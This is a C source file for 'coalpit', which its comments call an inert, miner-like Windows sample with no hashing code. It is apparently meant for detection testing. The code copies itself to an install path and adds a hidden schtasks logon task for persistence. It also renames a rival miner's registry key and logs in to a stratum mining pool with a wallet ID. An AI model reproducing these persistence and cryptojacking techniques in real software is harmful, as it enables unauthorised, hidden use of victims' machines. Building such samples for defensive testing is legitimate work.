/* coalpit - miner-like: copies itself to CFG_INSTALL, registers a logon task with schtasks and logs in
 * to a stratum pool with an XMRig-style JSON-RPC request.  No hashing code at all.
 * Inert: see common/inert.h. */
#include <winsock2.h>
#include <ws2tcpip.h>
#include <windows.h>
#include "config.h"
#include "../../common/inert.h"

static const char pool_url[] = CFG_POOL;
static const char miner_args[] = CFG_CPU_ARGS;

/* "stratum+tcp://host:port" -> host, port */
static int split_pool(char *host, int hostlen, char *port)
{
    const char *p = pool_url, *colon;
    int n;
    while (*p && !(p[0] == '/' && p[1] == '/'))
        p++;
    if (!*p)
        return 0;
    p += 2;
    for (colon = p; *colon && *colon != ':'; colon++)
        ;
    n = (int)(colon - p);
    if (n >= hostlen || *colon != ':')
        return 0;
    lstrcpynA(host, p, n + 1);
    lstrcpynA(port, colon + 1, 8);
    return 1;
}

/* "competitor killer": disable another miner's settings key by renaming it */
static void disable_rival(void)
{
    RegRenameKey(HKEY_CURRENT_USER, CFG_RIVAL_KEY, CFG_RIVAL_NEW);
}

static void persist(void)
{
    char self[MAX_PATH], target[MAX_PATH], cmd[1024];
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    GetModuleFileNameA(NULL, self, sizeof self);
    ExpandEnvironmentStringsA(CFG_INSTALL, target, sizeof target);
    CopyFileA(self, target, FALSE);
    wsprintfA(cmd, CFG_SCHTASKS_FMT, CFG_TASK, target);
    ZeroMemory(&si, sizeof si);
    si.cb = sizeof si;
    if (CreateProcessA(NULL, cmd, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi)) {
        WaitForSingleObject(pi.hProcess, 10000);
        CloseHandle(pi.hThread);
        CloseHandle(pi.hProcess);
    }
}

static int family_run(void)
{
    WSADATA wsa;
    struct addrinfo hints, *res = NULL;
    char host[128], port[8], login[512];
    SOCKET s;
    HANDLE mutex = CreateMutexA(NULL, FALSE, CFG_MUTEX);
    if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS)
        return 1;
    disable_rival();
    persist();
    if (WSAStartup(MAKEWORD(2, 2), &wsa) != 0 || !split_pool(host, sizeof host, port))
        return 2;
    ZeroMemory(&hints, sizeof hints);
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return 3;
    s = socket(res->ai_family, SOCK_STREAM, IPPROTO_TCP);
    if (s != INVALID_SOCKET && connect(s, res->ai_addr, (int)res->ai_addrlen) == 0) {
        wsprintfA(login, CFG_LOGIN_FMT, CFG_WALLET, CFG_WORKER, CFG_VARIANT);
        lstrcatA(login, "\n");
        send(s, login, lstrlenA(login), 0);
        OutputDebugStringA(miner_args);
        closesocket(s);
    }
    freeaddrinfo(res);
    WSACleanup();
    return 0;
}

#include "../../common/winentry.h"
